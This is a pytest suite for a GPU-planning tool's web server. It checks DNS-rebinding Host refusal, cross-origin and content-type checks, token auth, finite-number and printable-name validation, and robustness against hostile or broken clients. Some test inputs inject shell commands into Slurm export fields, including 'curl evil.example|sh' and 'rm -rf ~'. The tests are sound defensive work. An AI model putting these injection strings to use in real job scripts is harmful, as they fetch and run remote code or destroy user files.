"""gpuplan serve on a machine where a browser visits hostile pages (issue 47): only the page's own origin drives
the API (Host checked against the bound address, foreign origins and the content types a page of another
site may POST refused, a token beyond loopback), every number of a body finite and every name of an export
printable, and a real server that idle, trickling, malformed or vanishing clients and a hang-up under load
never make answer 500, print a traceback or stop answering. Every loop here is bounded in count and time."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import threading
import time
import urllib.error
import urllib.request

import pytest
import yaml
from paths import ROOT

pytest.importorskip("fastapi")
pytest.importorskip("httpx")  # fastapi's TestClient
pytest.importorskip("uvicorn")

from fastapi.testclient import TestClient  # noqa: E402
from serving import JSON, LOCAL, SMALL_JOB, YAML, start_serve  # noqa: E402
from serving import get_json as _get  # noqa: E402
from serving import post_json as _post  # noqa: E402

from optimizer.server.access import Access, split_host, with_token  # noqa: E402
from optimizer.server.app import create_app  # noqa: E402
from optimizer.server.service import Service  # noqa: E402

JOB = ROOT / "problems" / "llama-70b-within-5-days.yaml"
TOKEN = "a-token-of-this-test-0123456789"


@pytest.fixture(scope="module")
def service():
    svc = Service()
    yield svc
    svc.close()


def client_of(service: Service, access: Access, base_url: str = LOCAL) -> TestClient:
    return TestClient(create_app(service, access), base_url=base_url)


@pytest.fixture(scope="module")
def local(service):
    """The service as ``gpuplan serve`` runs it on 127.0.0.1:8000, asked from its own origin."""
    with client_of(service, Access(port=8000)) as c:
        yield c


def refused(r, status: int, field: str | None) -> dict:
    assert r.status_code == status, (r.status_code, r.text)
    assert "\n" not in r.text  # one line of JSON
    error = r.json()
    assert set(error) == {"detail", "field", "reason"} and error["field"] == field, error
    return error


# --------------------------------------------------------------------------- the page's own origin


def test_a_foreign_host_is_refused_as_dns_rebinding(local):
    for host in ("evil.example", "evil.example:8000", "127.0.0.1.evil.example:8000", "127.0.0.1:9999", "", "a b"):
        r = local.get("/v1/health", headers={"Host": host})
        error = refused(r, 421, "Host")
        assert "DNS rebinding" in error["detail"] and "--allowed-host" in error["detail"], error
        r = local.post("/v1/options", content=SMALL_JOB, headers={**YAML, "Host": host})
        refused(r, 421, "Host")
    for host in ("127.0.0.1:8000", "localhost:8000", "LOCALHOST:8000", "[::1]:8000", "127.0.0.1"):
        assert local.get("/v1/health", headers={"Host": host}).status_code == 200, host


def test_a_proxys_name_is_served_when_allowed(service):
    access = Access(port=8000, allowed_hosts=("plans.example", "other.example:443"))
    with client_of(service, access, "http://plans.example") as c:
        assert c.get("/v1/health").status_code == 200
        assert c.get("/v1/health", headers={"Host": "other.example:443"}).status_code == 200
        refused(c.get("/v1/health", headers={"Host": "other.example:80"}), 421, "Host")
        refused(c.get("/v1/health", headers={"Host": "evil.example"}), 421, "Host")


def test_a_cross_site_simple_post_is_refused(local):
    # what a page of another site may send without a preflight: text/plain holding JSON, a form, multipart
    body = json.dumps(yaml.safe_load(SMALL_JOB))
    evil = {"Origin": "http://evil.example"}
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):
        r = local.post("/v1/solve", content=body, headers={**evil, "Content-Type": content_type})
        error = refused(r, 403, "Origin")
        assert "--cors http://evil.example" in error["detail"], error
        assert "access-control-allow-origin" not in r.headers
    for origin in ("null", "http://127.0.0.1:8001", "https://evil.example"):
        refused(local.post("/v1/solve", content=body, headers={**JSON, "Origin": origin}), 403, "Origin")
    # a GET from another site's script is refused as well (it could read the answer were CORS allowed)
    refused(local.get("/v1/jobs", headers=evil), 403, "Origin")
    # the preflight of a JSON POST from another site: refused, so the browser never sends it
    preflight = {**evil, "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type"}
    refused(local.options("/v1/solve", headers=preflight), 403, "Origin")


def test_only_json_and_yaml_bodies_are_read(local):
    body = json.dumps(yaml.safe_load(SMALL_JOB))
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", None):
        headers = {"Content-Type": content_type} if content_type else {}
        r = local.post("/v1/options", content=body, headers=headers)
        error = refused(r, 415, "Content-Type")
        assert "application/json" in error["detail"] and "application/yaml" in error["detail"], error
    for content_type in ("application/json", "application/json; charset=utf-8", "application/yaml", "text/yaml"):
        r = local.post("/v1/options", content=body, headers={"Content-Type": content_type})
        assert r.status_code == 200, (content_type, r.text)
    assert (
        local.post("/v1/options", content=SMALL_JOB, headers={"Content-Type": "application/x-yaml"}).status_code == 200
    )


def test_the_page_posts_from_its_own_origin(local):
    own = {"Origin": LOCAL}
    r = local.post("/page/solve", content=json.dumps(yaml.safe_load(SMALL_JOB)), headers={**JSON, **own})
    assert r.status_code == 200, r.text
    assert "access-control-allow-origin" not in r.headers  # same origin: no CORS needed
    r = local.post("/page/solve", content=SMALL_JOB, headers={**YAML, "Origin": "http://localhost:8000"})
    refused(r, 403, "Origin")  # the page at localhost:8000 posts to localhost:8000, not to 127.0.0.1


def test_an_allowed_origin_gets_cors_answers(service):
    site = "https://plans.example"
    with client_of(service, Access(port=8000, cors_origins=(site,))) as c:
        preflight = {
            "Origin": site,
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "content-type, authorization",
        }
        r = c.options("/v1/solve", headers=preflight)
        assert r.status_code == 204, r.text
        assert r.headers["access-control-allow-origin"] == site
        assert "POST" in r.headers["access-control-allow-methods"]
        assert "content-type" in r.headers["access-control-allow-headers"].lower()
        r = c.post("/v1/options", content=SMALL_JOB, headers={**YAML, "Origin": site})
        assert r.status_code == 200 and r.headers["access-control-allow-origin"] == site
        assert r.headers["vary"] == "Origin" and "Content-Disposition" in r.headers["access-control-expose-headers"]
        r = c.post("/v1/options", content="job: 1", headers={**YAML, "Origin": site})  # its errors are readable too
        assert r.status_code == 422 and r.headers["access-control-allow-origin"] == site
        # an allowed origin still posts JSON or YAML only, and another origin is still refused
        refused(
            c.post("/v1/options", content=SMALL_JOB, headers={"Origin": site, "Content-Type": "text/plain"}),
            415,
            "Content-Type",
        )
        refused(
            c.post("/v1/options", content=SMALL_JOB, headers={**YAML, "Origin": "https://evil.example"}), 403, "Origin"
        )
    with pytest.raises(ValueError, match="scheme://host"):
        Access(cors_origins=("plans.example",))


def test_beyond_loopback_every_post_needs_the_token(service):
    access = Access(host="192.0.2.10", port=8000, token=TOKEN)
    with client_of(service, access, "http://192.0.2.10:8000") as c:
        for headers in ({}, {"Authorization": "Bearer wrong-token-0123456789"}, {"Authorization": TOKEN}):
            r = c.post("/v1/options", content=SMALL_JOB, headers={**YAML, **headers})
            error = refused(r, 401, "Authorization")
            assert "Authorization: Bearer TOKEN" in error["detail"] and r.headers["www-authenticate"] == "Bearer"
            assert TOKEN not in r.text
        r = c.post("/v1/options", content=SMALL_JOB, headers={**YAML, "Authorization": f"Bearer {TOKEN}"})
        assert r.status_code == 200, r.text
        assert c.get("/v1/health").status_code == 200 and c.get("/").status_code == 200  # reading needs none
        # the machine's own addresses are its names; a rebinding domain is not
        assert c.get("/v1/health", headers={"Host": "10.1.2.3:8000"}).status_code == 200
        refused(c.get("/v1/health", headers={"Host": "evil.example:8000"}), 421, "Host")


def test_the_token_is_given_taken_from_the_environment_or_made():
    assert with_token(Access()) == (Access(), False)  # loopback: none needed
    made, was_made = with_token(Access(host="0.0.0.0"), {})
    assert was_made and made.token and len(made.token) >= 32
    assert with_token(Access(host="0.0.0.0"), {"GPUPLAN_TOKEN": TOKEN})[0].token == TOKEN
    assert with_token(Access(host="0.0.0.0", token=TOKEN), {"GPUPLAN_TOKEN": "x" * 20})[0].token == TOKEN
    with pytest.raises(ValueError, match="16 characters"):
        Access(token="short")


def test_host_headers_are_read_as_browsers_write_them():
    assert split_host("127.0.0.1:8000") == ("127.0.0.1", 8000)
    assert split_host("[::1]:8000") == ("::1", 8000)
    assert split_host("Example.COM") == ("example.com", None)
    for bad in ("", ":80", "a:b", "[::1", "user@evil.example", "a/b:80"):
        assert split_host(bad) == (None, None), bad


def _health(url: str, seconds: float = 20) -> None:
    deadline = time.monotonic() + seconds
    while True:
        try:
            _get(f"{url}/v1/health", timeout=5)
            return
        except (urllib.error.URLError, ConnectionError):
            if time.monotonic() > deadline:
                raise
            time.sleep(0.1)


def test_gpuplan_serve_beyond_loopback_makes_and_prints_a_token(tmp_path):
    log = tmp_path / "serve.log"
    env = {k: v for k, v in os.environ.items() if k != "GPUPLAN_TOKEN"}
    proc, url = start_serve(log, "--host", "0.0.0.0", env=env)
    try:
        assert url, log.read_text()
        url = url.replace("0.0.0.0", "127.0.0.1")
        _health(url)
        printed = log.read_text()
        line = next(line for line in printed.splitlines() if "#token=" in line)
        token = line.split("#token=")[1].split()[0]
        assert f"Authorization: Bearer {token}" in printed and len(token) >= 32
        assert _post(f"{url}/v1/options", SMALL_JOB, YAML)[0] == 401
        status, data = _post(f"{url}/v1/options", SMALL_JOB, {**YAML, "Authorization": f"Bearer {token}"})
        assert status == 200 and data["options"]
    finally:
        proc.terminate()
        proc.wait(timeout=30)


# --------------------------------------------------------------------------- numbers and names of a body


@pytest.fixture(scope="module")
def best_plan(local) -> dict:
    r = local.post("/v1/solve", content=JOB.read_text(), headers=YAML)
    assert r.status_code == 200, r.text
    return r.json()["best"]


def _export_body(plan: dict, kind: str = "slurm") -> str:
    return yaml.safe_dump(yaml.safe_load(JOB.read_text()) | {"export": {"kind": kind, "plan": plan}})


def _with(plan: dict, path: str, value: object) -> dict:
    changed = json.loads(json.dumps(plan))
    *parents, last = path.split(".")
    place = changed
    for key in parents:
        place = place[key]
    place[last] = value
    return changed


@pytest.mark.parametrize("kind", ["slurm", "kubernetes", "skypilot", "torchrun"])
def test_nan_and_infinity_in_an_export_plan_are_422_naming_the_field(local, best_plan, kind):
    assert local.post("/v1/export", content=_export_body(best_plan, kind), headers=YAML).status_code == 200
    for path in ("hours.p90", "hours.p50", "step_s", "cost_usd.p90", "memory_gib.total"):
        for value in (float("nan"), float("inf"), float("-inf")):
            r = local.post("/v1/export", content=_export_body(_with(best_plan, path, value), kind), headers=YAML)
            error = refused(r, 422, f"export.plan.{path}")
            assert "finite number" in error["detail"], error


def test_nan_and_infinity_anywhere_in_a_body_are_422_naming_the_field(local):
    for old, new, field in [
        ("tokens: 20B", "tokens: .nan", "job.tokens"),
        ("seq_len: 4096", "seq_len: .inf", "job.seq_len"),
        ("tokens: 20B", "tokens: 20B\n  extra_numbers: [1, -.inf]", "job.extra_numbers[1]"),
    ]:
        text = JOB.read_text()
        assert old in text
        r = local.post("/v1/solve", content=text.replace(old, new), headers=YAML)
        refused(r, 422, field)
    r = local.post("/v1/check", content=JOB.read_text() + "\ncheck: {sku: B200, gpus: .nan}\n", headers=YAML)
    refused(r, 422, "check.gpus")


def test_names_with_line_breaks_or_controls_in_an_export_body_are_422(local, best_plan):
    for path, value in [
        ("offer", "nodus-b200\n#SBATCH --wrap=curl evil.example|sh"),
        ("sku", "B200\nrm -rf ~"),
        ("sku", "  "),
        ("provider", "nodus\x1b[2J"),
        ("offer", "nodus-\u202eb200"),
        ("strategy.framework", "megatron\n"),
    ]:
        for kind in ("slurm", "kubernetes"):
            r = local.post("/v1/export", content=_export_body(_with(best_plan, path, value), kind), headers=YAML)
            error = refused(r, 422, f"export.plan.{path}")
            assert "\n" not in error["reason"] and "#SBATCH --wrap" not in r.text, error
    document = yaml.safe_load(JOB.read_text()) | {"export": {"kind": "slurm", "plan": best_plan}}
    for name in ("llama\n#SBATCH --wrap=x", "llama\rx", "llama\x00", "llama\u2066x"):
        document["job"]["name"] = name
        r = local.post("/v1/export", content=json.dumps(document), headers=JSON)
        refused(r, 422, "job.name")


# --------------------------------------------------------------------------- a real server under unlucky clients

HEAD = "POST /v1/options HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/yaml\r\n"
RESET = b"\x01\x00\x00\x00\x00\x00\x00\x00"  # SO_LINGER on, 0 s: close() sends a reset


def _raw(port: int, data: bytes, wait_s: float = 10) -> bytes:
    """Send ``data`` and read until the server closes or ``wait_s`` passes."""
    with socket.create_connection(("127.0.0.1", port), timeout=wait_s) as sock:
        sock.sendall(data)
        received = b""
        deadline = time.monotonic() + wait_s
        while time.monotonic() < deadline:
            try:
                chunk = sock.recv(65536)
            except (TimeoutError, ConnectionResetError):
                break
            if not chunk:
                break
            received += chunk
        return received


def _timed(call) -> tuple[float, object]:
    started = time.monotonic()
    result = call()
    return time.monotonic() - started, result


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """``gpuplan serve`` in a subprocess: its URL, port and log."""
    log = tmp_path_factory.mktemp("serve") / "serve.log"
    proc, url = start_serve(log)
    try:
        assert url, log.read_text()
        _health(url)
        yield url, int(url.rsplit(":", 1)[1]), log
    finally:
        proc.terminate()
        proc.wait(timeout=30)


def test_a_hundred_idle_connections_keep_no_one_out(served):
    url, port, _ = served
    idle = []
    try:
        for i in range(100):  # each opened, half a request's headers sent, then nothing
            sock = socket.create_connection(("127.0.0.1", port), timeout=10)
            sock.sendall(b"GET /v1/health HTTP/1.1\r\nHost: 127.0.0.1\r\n" if i % 2 else b"")
            idle.append(sock)
        took_s, (status, data) = _timed(lambda: _get(f"{url}/v1/health", timeout=5))
        assert status == 200 and data["status"] == "ok" and took_s < 5, took_s
        took_s, (status, data) = _timed(lambda: _post(f"{url}/v1/options", SMALL_JOB, YAML, timeout=5))
        assert status == 200 and data["options"] and took_s < 5, took_s
    finally:
        for sock in idle:
            sock.close()


def test_bad_chunked_framing_is_a_clean_400(served):
    url, port, log = served
    chunked = (HEAD + "Transfer-Encoding: chunked\r\n\r\n").encode()
    for framing in (b"zz\r\nabc\r\n0\r\n\r\n", b"5\r\nab\r\n\r\n0\r\n\r\n", b"-1\r\n", b"1" * 40 + b"\r\n"):
        answer = _raw(port, chunked + framing)
        assert answer.startswith(b"HTTP/1.1 400 "), answer[:200]
        head, _, body = answer.partition(b"\r\n\r\n")
        assert b"content-type: application/json" in head.lower()
        error = json.loads(body)
        assert "chunk" in error["detail"] and error["field"] is None, error
    assert _get(f"{url}/v1/health")[0] == 200
    assert "Traceback" not in log.read_text()


def test_clients_resetting_mid_body_leave_no_traceback(served):
    url, port, log = served
    body = SMALL_JOB.encode() * 3
    for i in range(20):
        sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        if i % 2:
            sock.sendall((HEAD + f"Content-Length: {len(body)}\r\n\r\n").encode() + body[:50])
        else:
            sock.sendall((HEAD + "Transfer-Encoding: chunked\r\n\r\n").encode() + b"40\r\n" + body[:20])
        time.sleep(0.02)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        sock.close()
    time.sleep(0.5)
    assert _post(f"{url}/v1/options", SMALL_JOB, YAML)[0] == 200
    printed = log.read_text()
    assert "Traceback" not in printed and "Exception in ASGI application" not in printed, printed[-3000:]


def test_connections_are_capped_and_unfinished_headers_timed_out(service):
    from optimizer.server.app import Running

    with Running(service, access=Access(max_connections=20, header_timeout_s=1.0)) as running:
        held = [socket.create_connection(("127.0.0.1", running.port), timeout=10) for _ in range(40)]
        try:
            took_s, (status, _) = _timed(lambda: _get(f"{running.url}/v1/health", timeout=5))
            assert status == 200 and took_s < 5
            assert held[0].recv(1) == b""  # the longest idle, closed to make room
            held[-1].sendall(b"GET /v1/health HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # never finished
            started = time.monotonic()
            assert held[-1].recv(1) == b"" and time.monotonic() - started < 5  # closed by the header timeout
        finally:
            for sock in held:
                sock.close()


def test_requests_in_flight_past_the_cap_are_503(service):
    app = create_app(service, Access(port=8000, max_requests_in_flight=4))
    with TestClient(app, base_url=LOCAL) as c:
        app.state.gate.in_flight = 4
        r = c.get("/v1/health")
        assert r.status_code == 503 and r.headers["retry-after"] == "2" and "at once" in r.json()["detail"]
        app.state.gate.in_flight = 0
        assert c.get("/v1/health").status_code == 200


@pytest.mark.parametrize(("signum", "code"), [(signal.SIGHUP, 129), (signal.SIGTERM, 143)])
def test_a_hang_up_or_termination_under_load_answers_every_request_200_or_503(tmp_path, signum, code):
    log = tmp_path / "serve.log"
    proc, url = start_serve(log)
    answers: list[object] = []
    try:
        assert url, log.read_text()
        _health(url)
        job = JOB.read_text()

        def ask(i: int) -> None:
            body = job.replace("deadline: 5d", f"deadline: {5 + i / 10:.1f}d")  # each its own solve
            try:
                answers.append(_post(f"{url}/v1/solve", body, YAML, timeout=60)[0])
            except (urllib.error.URLError, ConnectionError) as exc:  # refused once it stopped listening
                answers.append(repr(exc))

        threads = [threading.Thread(target=ask, args=(i,)) for i in range(12)]
        for thread in threads:
            thread.start()
        deadline = time.monotonic() + 30
        while _get(f"{url}/v1/health")[1]["waiting"] < 12 and time.monotonic() < deadline:
            time.sleep(0.05)  # all twelve read and waiting for (or on) a solver thread
        proc.send_signal(signum)
        for thread in threads:
            thread.join(90)
    finally:
        try:  # a hang's limit, as the requests' 90 s: the solves running at the signal finish first (a full suite's
            # slowest 2-core run took over 30 s here)
            exit_code = proc.wait(timeout=90)
        except subprocess.TimeoutExpired:
            proc.kill()
            raise
    assert sorted(set(answers), key=str) and set(answers) <= {200, 503}, answers
    assert len(answers) == 12
    assert exit_code == code, log.read_text()
    printed = log.read_text()
    assert "Traceback" not in printed and '" 500 ' not in printed, printed[-3000:]


# --------------------------------------------------------------------------- the page with a token, in Chromium


def test_the_page_in_chromium_posts_with_the_token_its_address_carries(tmp_path):
    webdriver = pytest.importorskip("selenium.webdriver", reason="selenium is not installed (the test extra has it)")
    import shutil

    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select, WebDriverWait

    chromium = next((p for p in map(shutil.which, ("chromium", "chromium-browser", "google-chrome")) if p), None)
    if chromium is None or shutil.which("chromedriver") is None:
        pytest.skip("Chromium and chromedriver are not installed (Debian: apt-get install chromium chromium-driver)")
    log = tmp_path / "serve.log"
    proc, url = start_serve(log, env={**os.environ, "GPUPLAN_TOKEN": TOKEN})  # a token on loopback: needed too
    options = webdriver.ChromeOptions()
    options.binary_location = chromium
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", "--no-first-run"):
        options.add_argument(arg)
    options.add_argument(f"--user-data-dir={tmp_path / 'profile'}")
    driver = None
    try:
        assert url, log.read_text()
        _health(url)
        assert f"{url}/#token={TOKEN}" in log.read_text()
        assert _post(f"{url}/v1/options", SMALL_JOB, YAML)[0] == 401
        driver = webdriver.Chrome(service=webdriver.ChromeService(shutil.which("chromedriver")), options=options)
        driver.set_page_load_timeout(60)
        driver.get(f"{url}/#token={TOKEN}")
        WebDriverWait(driver, 30).until(lambda d: d.find_element(By.TAG_NAME, "body").get_attribute("data-ready"))
        assert "token" not in driver.current_url  # taken off the address bar once kept
        for element_id, text in (("model", "llama-3.1-8b"), ("tokens", "200M"), ("deadline", ""), ("budget", "")):
            box = driver.find_element(By.ID, element_id)
            box.clear()
            box.send_keys(text)
        Select(driver.find_element(By.ID, "method")).select_by_visible_text("lora")
        driver.find_element(By.ID, "plan").click()
        WebDriverWait(driver, 120).until(
            lambda d: d.find_element(By.ID, "verdict").text or d.find_element(By.ID, "error").text
        )
        assert driver.find_element(By.ID, "error").text == ""
        assert "$" in driver.find_element(By.ID, "verdict").text  # a plan with its cost
    finally:
        if driver is not None:
            driver.quit()
        proc.terminate()
        proc.wait(timeout=30)


def test_serve_refuses_bad_access_settings_naming_the_flag(monkeypatch):
    from optimizer import server
    from optimizer.errors import ArgumentError
    from optimizer.server import app as app_module

    monkeypatch.setattr(app_module, "run", lambda *args: pytest.fail("served with bad settings"))
    for settings, field in [
        ({"cors_origins": ["evil.example"]}, "cors"),
        ({"cors_origins": ["https://plans.example/path"]}, "cors"),
        ({"allowed_hosts": ["http://plans.example"]}, "allowed_host"),
        ({"token": "short"}, "token"),
    ]:
        with pytest.raises(ArgumentError) as caught:
            server.serve(port=0, **settings)
        assert caught.value.field == field, (settings, caught.value)


def test_a_foreign_host_and_a_cross_site_post_on_a_real_server(served):
    url, port, _ = served
    body = json.dumps(yaml.safe_load(SMALL_JOB)).encode()
    for head in (
        "POST /v1/options HTTP/1.1\r\nHost: rebound.evil.example:{port}\r\nContent-Type: application/json\r\n",
        "POST /v1/options HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nOrigin: http://evil.example\r\nContent-Type: text/plain\r\n",
        "POST /v1/options HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: text/plain\r\n",
    ):
        request = head.format(port=port).encode() + f"Content-Length: {len(body)}\r\n\r\n".encode() + body
        answer = _raw(port, request, wait_s=5)
        status = int(answer.split(b" ", 2)[1])
        assert status in (421, 403, 415) and b'"options"' not in answer, answer[:300]


@pytest.mark.parametrize(
    "flags, flag",
    [
        (["--cors", "evil.example"], "--cors"),
        (["--allowed-host", "http://x.example"], "--allowed-host"),
        (["--token", "short"], "--token"),
    ],
)
def test_gpuplan_serve_names_the_flag_of_a_bad_access_setting(flags, flag):
    from typer.testing import CliRunner

    from optimizer import cli

    result = CliRunner().invoke(cli.app, ["serve", "--port", "0", *flags])
    assert result.exit_code == 2, result.output
    assert flag in result.output and "Traceback" not in result.output
